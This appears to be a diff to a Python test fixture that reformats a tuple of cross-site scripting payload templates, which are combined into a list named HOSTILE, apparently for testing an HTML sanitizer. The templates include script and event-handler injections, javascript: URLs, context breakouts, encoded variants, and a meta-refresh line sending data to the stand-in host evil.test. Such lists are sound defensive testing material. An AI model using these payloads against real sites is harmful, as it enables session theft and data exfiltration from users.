@@ -26,10 +26,25 @@ SHAPES = (
     *("<script>{0}</script>", "<img src=x onerror={0}>", "<svg onload={0}>", "<svg/onload={0}//", "<body onload={0}>"),
     *("'><img src=x onerror={0}>", '"><img src=x onerror={0}>', "' onmouseover='{0}", '" autofocus onfocus="{0}'),
     *("<iframe srcdoc='<script>parent.{0}</script>'>", "<a href='javascript:{0}'>x</a>", "[x](javascript:{0})"),
-    *("![x](x onerror={0})", "<details open ontoggle={0}>", "<style>@import 'x';</style><b>{0}", "${{{0}}}", "{{{{{0}}}}}"),
+    *(
+        "![x](x onerror={0})",
+        "<details open ontoggle={0}>",
+        "<style>@import 'x';</style><b>{0}",
+        "${{{0}}}",
+        "{{{{{0}}}}}",
+    ),
     *("`;{0};`", "\\u003cscript\\u003e{0}", "&lt;img src=x onerror={0}&gt;", "&#60;img src=x onerror={0}&#62;"),
-    *("</textarea><img src=x onerror={0}>", "</title><script>{0}</script>", "--><script>{0}</script>", "]]><x onclick={0}>"),
-    *("<math><mtext><img src=x onerror={0}>", "<form action='javascript:{0}'><input type=submit>", "\x00<img src=x onerror={0}>"),
+    *(
+        "</textarea><img src=x onerror={0}>",
+        "</title><script>{0}</script>",
+        "--><script>{0}</script>",
+        "]]><x onclick={0}>",
+    ),
+    *(
+        "<math><mtext><img src=x onerror={0}>",
+        "<form action='javascript:{0}'><input type=submit>",
+        "\x00<img src=x onerror={0}>",
+    ),
     *("<base href='//evil.test/'>{0}", "<meta http-equiv=refresh content='0;url=//evil.test/?{0}'>"),
 )
 HOSTILE = [shape.format(call) for shape in SHAPES for call in CALLS]
